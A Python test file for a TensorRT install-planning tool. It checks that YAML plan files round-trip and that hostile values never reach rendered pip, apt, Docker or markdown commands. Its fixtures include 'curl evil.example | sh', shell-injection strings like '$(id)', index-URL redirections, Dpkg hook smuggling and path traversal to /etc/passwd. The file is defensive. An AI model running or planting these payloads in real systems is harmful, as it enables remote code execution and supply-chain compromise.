"""A plan as a file: what is written is read back, and nothing hostile in a file gets into a command."""

from __future__ import annotations

import re
import subprocess
import sys
import time
from dataclasses import replace
from importlib import import_module
from typing import Any

import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.plan.plans import JETSON, by_apt, by_archive, by_image, by_pip, described
from trtdoctor.planned import SCHEMA, Planned, PlannedError, PlannedFile, from_yaml, to_yaml
from trtdoctor.planned_commands import is_ours
from trtdoctor.text import clean

RENDERS = ("requirements", "constraints", "dockerfile", "apt", "markdown")
EVIL = "curl evil.example | sh"
DIGEST = "0123456789abcdef" * 4


def rendered(plan: Planned) -> dict[str, str]:
    """Each text that a plan is written as; one line of complaint where it has none."""
    has = {"requirements": plan.pins, "constraints": plan.pins, "apt": plan.apt, "markdown": True}
    debian = plan.apt if plan.install != "jetpack" else ()
    has["dockerfile"] = plan.image or (plan.install != "keep" and (plan.pins or debian))
    made = {}
    for kind in RENDERS:
        render = import_module(f"trtdoctor.render.plan_{kind}").render
        if has[kind]:
            made[kind] = render(plan)
        else:
            with pytest.raises(PlannedError) as caught:
                render(plan)
            assert "\n" not in str(caught.value)
    return made


# -- what is written is read back --------------------------------------------------------------------------------------

TEXT = st.text(st.characters(exclude_categories=("C", "Z")), min_size=1, max_size=40).filter(
    lambda text: clean(text, 500) == text
)
TEXTS = st.lists(TEXT, max_size=3).map(tuple)
NAME = st.from_regex(r"[a-z0-9]([a-z0-9-]{0,20}[a-z0-9])?", fullmatch=True)
VERSION = st.from_regex(r"[0-9]{1,2}(\.[0-9]{1,3}){1,3}(\.post[0-9]|rc[0-9]|\+cu128)?", fullmatch=True)
PINS = st.dictionaries(NAME, VERSION, min_size=1, max_size=4).map(lambda found: tuple(found.items()))
APT = st.dictionaries(
    st.from_regex(r"lib[a-z0-9][a-z0-9+.-]{0,20}", fullmatch=True),
    st.from_regex(r"([0-9]:)?[0-9]{1,2}\.[0-9.]{1,8}-1(\+cuda12\.8)?", fullmatch=True),
    max_size=3,
).map(lambda found: tuple(found.items()))
FILES = st.builds(
    PlannedFile,
    st.from_regex(r"[a-z0-9_]{1,20}-[0-9.]{1,8}(\.tar\.gz|-py3-none-any\.whl)", fullmatch=True),
    st.none() | NAME,
    st.none() | VERSION,
    st.none() | st.integers(0, 1 << 40),
    st.none() | st.just(DIGEST),
    st.none() | st.sampled_from(("https://pypi.nvidia.com", "http://mirror.example:8080/simple/")),
    st.booleans(),
    st.booleans(),
)
ENVIRONMENTS = st.none() | st.fixed_dictionaries(
    {"os": st.sampled_from(("ubuntu-22.04", "windows-11", "jetpack-6.2"))},
    optional={
        "driver": st.just("580.95.05"),
        "gpus": st.lists(
            st.fixed_dictionaries({"name": TEXT, "memory_gib": st.floats(0, 500), "mig": st.booleans()}), max_size=2
        ),
        "packages": st.dictionaries(NAME, VERSION, max_size=3),
        "tensorrt": st.just([{"version": "10.9.0.34", "from": "pip-cu12", "loaded": True}]),
        "loader": st.fixed_dictionaries({"ld_library_path": st.lists(TEXT, max_size=2)}),
        "wants": st.just(["build", "run"]),
    },
)


@st.composite
def plans(draw: st.DrawFn) -> Planned:
    """Any plan that may stand in a file."""
    pins, apt = draw(PINS), draw(APT)
    extra = draw(st.none() | st.just("https://pypi.nvidia.com"))
    words = [f"{name}=={version}" for name, version in pins]
    install = f"python3 -m pip install {f'--extra-index-url {extra} ' if extra else ''}{' '.join(words)}"
    image = draw(st.none() | st.sampled_from(("nvcr.io/nvidia/tensorrt:25.06-py3", "registry.example:5000/a/b.c:1")))
    return Planned(
        title=draw(TEXT),
        install=draw(st.sampled_from(("pip", "apt", "container", "keep"))),
        program="0.1.0",
        matrix="2026.11.0",
        matrix_digest=DIGEST,
        made="2026-11-22",
        goal=draw(TEXTS),
        requires=draw(TEXTS),
        why=draw(TEXTS),
        changes=draw(TEXTS),
        gives_up=draw(TEXTS),
        environment=draw(ENVIRONMENTS),
        driver_floor=draw(st.none() | VERSION),
        driver_download=draw(st.none() | TEXT),
        cuda=draw(st.none() | VERSION),
        cuda_download=draw(st.none() | TEXT),
        gpus=draw(TEXTS),
        python=draw(st.none() | st.just("3.11")),
        pins=pins,
        extra_index=extra,
        files=tuple(draw(st.lists(FILES, max_size=3))),
        apt=apt,
        image=image,
        commands=(("shell", install), ("manual", draw(TEXT)), ("edit", draw(TEXT))),
    )


@settings(max_examples=50, deadline=None)
@given(plans())
def test_what_is_written_is_read_back(plan: Planned) -> None:
    text = to_yaml(plan)
    assert text.isascii()
    assert from_yaml(text.encode()) == plan


@pytest.mark.parametrize("make", [by_pip, by_apt, by_image, by_archive, lambda: described(*JETSON)])
def test_plans_of_the_planner_are_read_back_with_every_command(make: Any) -> None:
    plan = make()
    assert from_yaml(to_yaml(plan).encode()) == plan
    assert rendered(plan)["markdown"] == rendered(from_yaml(to_yaml(plan).encode()))["markdown"]


def test_what_a_later_program_adds_is_left_out() -> None:
    document = {**whole(), "new": {"a": 1}, "environment": {**by_pip().environment, "weather": "fine"}}
    assert from_yaml(yaml.safe_dump(document).encode()) == by_pip()


# -- what is no plan ---------------------------------------------------------------------------------------------------


def whole() -> dict[str, Any]:
    document = yaml.safe_load(to_yaml(by_pip()))
    assert isinstance(document, dict)
    return document


def put(path: str, value: Any) -> bytes:
    """A plan in which one thing is another."""
    document = whole()
    *above, last = path.split(".")
    place: Any = document
    for key in above:
        place = place[int(key) if isinstance(place, list) else key]
    if isinstance(place, list):
        place[int(last) :] = [value]  # also in a list that is empty
    else:
        place[last] = value
    return yaml.safe_dump(document).encode()


def complaint(content: bytes) -> str:
    with pytest.raises(PlannedError) as caught:
        from_yaml(content)
    said = str(caught.value)
    assert "\n" not in said
    assert said.isprintable()
    assert len(said) < 400
    return said


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "no plan"),
        (b"[1, 2]", "no plan"),
        (b"schema: trtdoctor-report/1", f"wanted {SCHEMA}"),
        (b"schema: [trtdoctor-plan-file/1]", f"wanted {SCHEMA}"),
        (b"a: &a [x]\nb: *a", "aliases"),
        (b"a: &a [x,x]\nb: &b [*a,*a]\nc: &c [*b,*b]", "aliases"),
        (b"[" * 5000, "nest"),
        (b"\xff\xff", "not YAML"),
        (b"a: !!python/object/apply:os.system [id]", "could not determine a constructor"),
        (b"x" * (5 << 20), "longer than 4 MiB"),
        (f"schema: {SCHEMA}".encode(), "plans nothing"),
    ],
)
def test_what_is_no_plan_is_told_in_one_line(content: bytes, said: str) -> None:
    assert said in complaint(content)


@pytest.mark.parametrize(
    ("path", "value", "said"),
    [
        ("pip.pins", "tensorrt==1", "wanted a list"),
        ("pip.pins", [["tensorrt"]], "list of texts"),
        ("pip.pins", ["tensorrt"], "NAME==VERSION"),
        ("pip.pins", ["--index-url==https://evil.example"], "NAME==VERSION"),
        ("pip.pins", ["-r==1"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt==1 --index-url=https://evil.example"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt==1\n--index-url=https://evil.example"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt==1; os_name"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt[x]==1"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt @ https://evil.example/x.whl"], "NAME==VERSION"),
        ("pip.pins", ["../evil==1"], "NAME==VERSION"),
        ("pip.pins", ["tensorrt==\uff110.9"], "NAME==VERSION"),  # a digit of another script
        ("pip.pins", ["a==1", "a==2"], "one name with two versions"),
        ("pip.pins", ["a==1"] * 1001, "more than 1000"),
        ("pip.extra_index", "https://evil.example/$(id)", "no address"),
        ("pip.extra_index", "--index-url=https://evil.example", "no address"),
        ("pip.extra_index", "file:///etc", "no address"),
        ("apt", ["libnvinfer10=10 -o Dpkg::Pre-Invoke::=id"], "NAME=VERSION"),
        ("apt", ["-o=1"], "NAME=VERSION"),
        ("apt", ["x=1;id"], "NAME=VERSION"),
        ("image", "nvcr.io/nvidia/tensorrt:25.06 --privileged", "not of the form"),
        ("image", "nvcr.io/../../etc:1", "not of the form"),
        ("image", "--privileged/x:1", "not of the form"),
        ("image", "nvcr.io/nvidia/tensorrt:25.06\nRUN id", "not of the form"),
        ("python", 3.11, "in quotes, found float"),
        ("python", "3.11-slim AS x", "not of the form"),
        ("driver.at_least", "580; id", "not of the form"),
        ("driver", "580", "wanted a mapping"),
        ("files.0.name", "../../etc/passwd", "no name of a file"),
        ("files.0.name", "tensorrt==../../etc", "no name of a file"),
        ("files.0.name", ".hidden", "no name of a file"),
        ("files.0.sha256", "0" * 63 + "g", "not of the form"),
        ("files.0.size", -1, "number of bytes"),
        ("files.0.size", True, "number of bytes"),
        ("files.0.stub", "yes", "true or false"),
        ("files", [3], "wanted mappings"),
        ("commands", ["id"], "wanted mappings"),
        ("title", ["a"], "in quotes, found list"),
        ("install", "pip; id", "not of the form"),
        ("made.on", "yesterday", "not of the form"),
        ("made.matrix", "2026.11\n# x", "not of the form"),
        ("made.matrix_digest", None, "is missing"),
        ("made.by", "evil 1.0", "not of the form"),
        ("environment", [1], "wanted a mapping"),
        ("environment.driver", "$(id)", "is not a version"),
        ("environment.packages", {"a": {"b": 1}}, "wanted a word"),
        ("environment.gpus", [{"name": "x", "memory_gib": float("nan")}], "has no place there"),
        ("environment.os", {"a": [[[[[1]]]]]}, "has no place there"),
    ],
)
def test_what_has_not_its_form_is_told_in_one_line(path: str, value: Any, said: str) -> None:
    assert said in complaint(put(path, value))


def test_a_plan_that_plans_nothing_is_none() -> None:
    document = {"schema": SCHEMA, "made": whole()["made"]}
    assert "plans nothing" in complaint(yaml.safe_dump(document).encode())


def test_a_large_file_is_read_in_bounded_time() -> None:
    started = time.monotonic()
    complaint(b"schema: trtdoctor-plan-file/1\nwhy: [" + b"a, " * 100_000 + b"a]")
    complaint(b"{" + b"a: {" * 100_000)
    assert time.monotonic() - started < 20


# -- nothing hostile gets into a command -------------------------------------------------------------------------------

PIN = r"[a-z0-9][a-z0-9-]*==[0-9][0-9A-Za-z.+!_-]*"
ADDRESS = r"https?://[A-Za-z0-9.:-]+(?:/[A-Za-z0-9._~/-]*)?"
REQUIREMENT = re.compile(
    rf"#.*|{PIN}(?: \\)?| {{4}}--hash=sha256:[0-9a-f]{{64}}(?: \\)?|--extra-index-url {ADDRESS}", re.DOTALL
)
PACKAGE = r"[a-z0-9][a-z0-9+.-]*"
PAIR = rf"{PACKAGE}=[0-9][0-9A-Za-z.+:~-]*"
KEYRING = r"https://developer\.download\.nvidia\.com/[A-Za-z0-9._/-]+\.deb"
SCRIPT = re.compile(
    rf"#.*|set -e|apt-get update|curl -fsSL -o cuda-keyring\.deb {KEYRING}|dpkg -i \./cuda-keyring\.deb"
    rf"|apt-get install -y --allow-downgrades --allow-change-held-packages(?: {PAIR})+"
    rf"|apt-mark hold(?: {PACKAGE})+",
    re.DOTALL,
)
IMAGE = r"[a-z0-9][a-z0-9.:/_-]*:[A-Za-z0-9_][A-Za-z0-9._-]*"
INSTRUCTION = re.compile(
    rf"#.*|ARG BASE|ADD {KEYRING} /tmp/cuda-keyring\.deb"
    r"|RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates\s+&& dpkg -i "
    r"/tmp/cuda-keyring\.deb && rm -rf /tmp/cuda-keyring\.deb /var/lib/apt/lists/\*"
    rf"|FROM (?:\$\{{BASE\}}|{IMAGE}|python:[0-9.]+-slim)"
    r"|ENV NVIDIA_VISIBLE_DEVICES=all NVIDIA_DRIVER_CAPABILITIES=compute,utility"
    rf"|RUN python3? -m pip install --no-cache-dir (?:--extra-index-url {ADDRESS} )?\s*(?:{PIN}\s*)+"
    rf"|RUN apt-get update && apt-get install -y --no-install-recommends --allow-change-held-packages\s+(?:{PAIR}\s*)+"
    rf"&& apt-mark hold(?: {PACKAGE})+\s*&& rm -rf /var/lib/apt/lists/\*",
    re.DOTALL,
)
DIRECTIVE = re.compile(r"#\s*[A-Za-z][A-Za-z0-9]*\s*=")
"""What Docker takes for an order about the file itself, in its first lines."""
ENCODING = re.compile(r"coding[:=]\s*[-\w.]+")
"""What pip takes for the encoding of requirements, in their first two lines (PEP 263)."""
FENCED = re.compile(r"^```sh\n(.*?)\n```$", re.DOTALL | re.MULTILINE)


def assert_harmless(plan: Planned) -> None:
    """Every line of every text is one of ours, or a comment that nothing obeys."""
    own = frozenset(
        [f"{name}=={version}" for name, version in plan.pins]
        + [word for name, version in plan.apt for word in (name, f"{name}={version}")]
        + [text for text in (plan.image, plan.extra_index) if text]
    )
    for kind, text in rendered(plan).items():
        lines = text.splitlines()
        assert all(line.isprintable() for line in lines), kind
        if kind in ("requirements", "constraints"):
            assert not any(ENCODING.search(line) for line in lines[:2]), text
            assert all(REQUIREMENT.fullmatch(line) for line in lines), text
        elif kind == "apt":
            assert lines[0] == "#!/bin/sh"
            assert all(SCRIPT.fullmatch(line) for line in lines), text
        elif kind == "dockerfile":
            assert not DIRECTIVE.match(lines[0]), text
            logical = re.sub(r"(?m)^([^#].*?)\\\n", r"\1", text)
            while logical != (joined := re.sub(r"(?m)^([^#].*?)\\\n", r"\1", logical)):
                logical = joined
            assert all(INSTRUCTION.fullmatch(line) for line in logical.splitlines()), text
        else:
            assert text.count("```") == 2 * len(FENCED.findall(text))
            for command in FENCED.findall(text):
                assert is_ours(command, own, plan.image), command
            assert not re.search(r"(?<!\\)<(?!!-- -->)|##\[", text), text


HOSTILE = (
    *(
        "\x1b[31m",
        "a\nRUN id",
        "a\r\n::add-mask::x",
        "$(id)",
        "`id`",
        "a | sh",
        "<script>",
        "##[error]",
        "```\nid\n```",
    ),
    *("coding: utf-7", "+AAo-evil==1", "syntax=evil.example/x:1 y", "escape=`", "\\", "x \\", "--index-url=https://e"),
    *("../../etc/passwd", "\u202eevil", "a\u2028b", "a\x85b", "\ud800", "https://user:secret@e.example/?t=1"),
    *("-r /etc", "'; id #", '" && id', "%s", "{x}", "x" * 600, "", "::warning::x", EVIL),
)
TEXTUAL = (
    *("title", "goal.0", "why.0", "changes.0", "gives_up.0", "gpus.0", "driver.download", "cuda.download"),
    *("environment.os", "environment.arch", "environment.gpus.0.name"),
)


def read_or_refused(content: bytes) -> Planned | None:
    """A plan; None for what is refused in one line."""
    try:
        return from_yaml(content)
    except PlannedError as error:
        assert "\n" not in str(error)
        assert str(error).isprintable()
        return None


@pytest.mark.parametrize("path", TEXTUAL)
def test_words_of_a_file_get_into_no_command(path: str) -> None:
    read = [plan for plan in (read_or_refused(put(path, text)) for text in HOSTILE) if plan is not None]
    assert len(read) > len(HOSTILE) / 2
    for plan in read:
        assert_harmless(plan)
        assert_harmless(replace(plan, pins=(), apt=(("libnvinfer10", "10.9.0.34-1+cuda12.8"),), commands=()))


@pytest.mark.parametrize(
    "command",
    [
        EVIL,
        "python3 -m pip install tensorrt; id",
        "python3 -m pip install evil==1",
        "python3 -m pip install --index-url https://evil.example tensorrt==10.9.0.34",
        "python3 -m pip install --extra-index-url https://evil.example tensorrt==10.9.0.34",
        "python3 -m pip uninstall -y pip",
        "python3 -m pip install -y pip",
        "docker docker",
        "python3 -c 'import os'",
        "/tmp/python3 -m pip install tensorrt==10.9.0.34",
        "apt-get update && id",
        "docker run --privileged evil",
        "curl -fsSL -o cuda-keyring.deb https://evil.example/x.deb",
        "curl -fsSL -o cuda-keyring.deb https://developer.download.nvidia.com/x.deb | sh",
        "printf '%s\\n' 'FROM evil' 'RUN id' | docker build -t trtdoctor-plan -",
        "printf '%s\\n' 'FROM nvcr.io/nvidia/tensorrt:25.06-py3' 'RUN id' | docker build -t trtdoctor-plan -",
        "reboot\nid",
        "reboot 'x",
        "$(id)",
    ],
)
def test_a_command_that_is_none_of_ours_is_a_note(command: str) -> None:
    document = whole()
    document["commands"] = [{"kind": "shell", "text": command}, {"kind": "run", "text": command}]
    plan = from_yaml(yaml.safe_dump(document).encode())
    assert [kind for kind, _ in plan.commands] == ["manual", "manual"]
    assert_harmless(plan)
    assert "```sh" not in rendered(plan)["markdown"]


VALUES: st.SearchStrategy[Any] = (
    st.sampled_from(HOSTILE) | st.none() | st.booleans() | st.integers() | st.floats() | st.just([]) | st.just({})
)


@settings(max_examples=80, deadline=None)
@given(st.data())
def test_whatever_is_changed_in_a_file_it_is_refused_or_harmless(data: st.DataObject) -> None:
    document: Any = whole()
    for _ in range(data.draw(st.integers(1, 3))):
        place = document
        while True:
            key = data.draw(st.sampled_from(sorted(place, key=str) if isinstance(place, dict) else range(len(place))))
            if not isinstance(place[key], (dict, list)) or not place[key] or data.draw(st.booleans()):
                break
            place = place[key]
        place[key] = data.draw(VALUES | st.lists(VALUES, max_size=2))
        if not document:
            break
    plan = read_or_refused(yaml.safe_dump(document).encode())
    if plan is not None:
        assert_harmless(plan)
        assert from_yaml(to_yaml(plan).encode()) == plan


@settings(max_examples=30, deadline=None)
@given(plans())
def test_every_plan_that_may_stand_in_a_file_is_harmless(plan: Planned) -> None:
    assert_harmless(plan)


def test_pip_reads_the_pins_of_hostile_requirements_and_nothing_else(tmp_path: Any) -> None:
    """The real parser: what pip takes from files whose words all mean harm."""
    pytest.importorskip("pip")
    files = []
    for number, text in enumerate(("coding: utf-7 +AAo-evil==1", "x \\", "a\n--pre", "${HOME}")):
        files.append(tmp_path / f"{number}.txt")
        files[-1].write_text(rendered(from_yaml(put("title", text)))["requirements"], "utf-8")
    script = (
        "import sys; from pip._internal.req.req_file import parse_requirements\n"
        "from pip._internal.network.session import PipSession\n"
        "for name in sys.argv[1:]:\n"
        "    print(*(item.requirement for item in parse_requirements(name, session=PipSession())))"
    )
    command = [sys.executable, "-c", script, *map(str, files)]
    done = subprocess.run(command, capture_output=True, text=True, check=True)
    pins = " ".join(f"{name}=={version}" for name, version in by_pip().pins)
    assert done.stdout.splitlines() == [pins] * len(files)


def test_a_shell_reads_a_plan_of_apt(tmp_path: Any) -> None:
    plan = replace(by_apt(), title="x; id #\\")
    file = tmp_path / "install.sh"
    file.write_text(rendered(plan)["apt"], "utf-8")
    assert subprocess.run(["sh", "-n", str(file)], capture_output=True, check=False).returncode == 0
    assert_harmless(from_yaml(to_yaml(plan).encode()))
